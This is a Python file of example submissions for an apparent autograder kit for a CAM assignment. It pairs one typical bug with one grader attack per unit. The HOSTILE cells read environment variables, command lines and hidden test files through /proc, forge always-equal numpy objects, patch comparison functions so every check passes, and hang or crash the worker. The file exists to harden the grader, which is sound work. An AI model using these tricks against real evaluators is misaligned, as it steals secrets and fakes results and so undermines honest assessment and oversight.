"""Example submissions of the CAM assignment: one typical bug per unit, one attack per unit.

BUGS maps a grade_id to (old, new) text replacements applied to the solution cell; each must
match exactly once (so a changed solution cannot silently turn a bug into a no-op).
HOSTILE maps a grade_id to a cell that attacks the grader instead of solving the unit.
EXTRA_BUGS holds further typical mutants (same format) that must also lose their unit; the
example builder uses BUGS only (one bug per unit), the kit's tests may grade these as well.
"""

BUGS = {
    # "Inference mode" forced inside: right in eval mode, wrong logits and a changed mode in training mode.
    "cam_forward": [("    try:\n        logits = net(x)", "    net.eval()\n    try:\n        logits = net(x)")],
    # Softmax over the batch axis: for (1, C) logits every probability is 1.
    "cam_top1": [("probs = F.softmax(logits, dim=1)", "probs = F.softmax(logits, dim=0)")],
    # (height, width) handed to OpenCV, which reads it as (width, height).
    "cam_compute": [("cv2.resize(cam_img, (size[1], size[0]))", "cv2.resize(cam_img, tuple(size))")],
    # Heat map and image weights swapped.
    "cam_overlay": [
        (
            "heatmap.astype(np.float32) * alpha + image_bgr.astype(np.float32) * beta",
            "heatmap.astype(np.float32) * beta + image_bgr.astype(np.float32) * alpha",
        )
    ],
    # Max pooling where the network averages: not the input of net.fc. cam_features uses
    # forward_with_features: cam_forward's bug above must cost cam_forward only (fair units).
    "cam_features": [("maps.mean(dim=(2, 3))", "maps.amax(dim=(2, 3))")],
}

EXTRA_BUGS = {
    # Max-only scaling: negative CAM values wrap around in the uint8 cast.
    "cam_compute": [("    cam = cam - cam.min()\n", "")],
    # eval() forgotten: batch norm uses batch statistics (features depend on the batch). Not in BUGS: in the
    # all-bugs example, cam_forward's bug (net.eval() inside forward_with_features) would mask it.
    "cam_features": [("    net.eval()  # running batch-norm statistics", "    # running batch-norm statistics")],
}

HOSTILE = {
    # Snoop on the grader through /proc (its command line, environment, working folder, the
    # solution and hidden checks), then escape with a BaseException subclass (not an Exception).
    "cam_forward": '''
import glob
import os


class GraderEscape(BaseException):
    """Not an Exception: slips past `except Exception` handlers."""


def snoop():
    loot = {}
    parent = os.getppid()
    patterns = [f"/proc/{parent}/cmdline", f"/proc/{parent}/environ", f"/proc/{parent}/cwd/solutions/cam/cam.ipynb",
                "/proc/1/cmdline", "/proc/1/environ", "/proc/1/cwd/solutions/cam/cam.ipynb",
                "/proc/*/cwd/grader/checks/test_cam.py", "/proc/*/root/work/main/solutions/cam/cam.ipynb",
                "/proc/*/fd/*", "/proc/self/mountinfo"]
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as handle:
                    loot[path] = handle.read(4096)
            except OSError:
                pass
    return loot


LOOT = snoop()


def forward_with_features(net, x):
    raise GraderEscape(f"{len(LOOT)} files read: {sorted(LOOT)[:20]}")
''',
    # NumPy subclass objects that compare equal to anything and pose as plain numpy arrays.
    "cam_top1": """
import numpy as np


class Agreeable(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None

    def __int__(self):
        return 0

    def __float__(self):
        return 1.0


Agreeable.__module__ = "numpy"  # pass the grader's "is this numpy?" test


class AgreeableInt(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def get_cls_pred(logits):
    idx = np.zeros((), dtype=np.int64).view(Agreeable)
    prob = np.ones((), dtype=np.float64).view(Agreeable)
    return AgreeableInt(0) if logits.shape[1] % 2 else idx, prob
""",
    # Patch cv2 and numpy comparison functions and the worker's numpy->torch conversion.
    "cam_compute": """
import cv2
import numpy as np
import torch

np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
cv2.resize = lambda src, dsize, *args, **kwargs: np.full((dsize[1], dsize[0]), 128, np.uint8)
torch.from_numpy = lambda array: torch.full(getattr(array, "shape", ()), 128, dtype=torch.uint8)


def return_cam(feature_conv, weight_fc, idx, size=(256, 256)):
    return cv2.resize(np.zeros((1, 1), np.uint8), (size[1], size[0]))
""",
    # Sleep forever, shrugging off signals and KeyboardInterrupt.
    "cam_overlay": """
import signal
import time

for name in ("SIGINT", "SIGTERM", "SIGALRM", "SIGHUP", "SIGUSR1"):
    try:
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def overlay_cam(image_bgr, cam, alpha=0.3, beta=0.5):
    while True:
        try:
            time.sleep(3600)
        except BaseException:
            continue
""",
    # Unbounded recursion with the recursion limit lifted (stack or memory exhaustion in the worker).
    "cam_features": """
import sys


def cam_features(net, loader):
    sys.setrecursionlimit(10_000_000)

    def dive(depth):
        return dive(depth + 1) + 1

    return dive(0)
""",
}
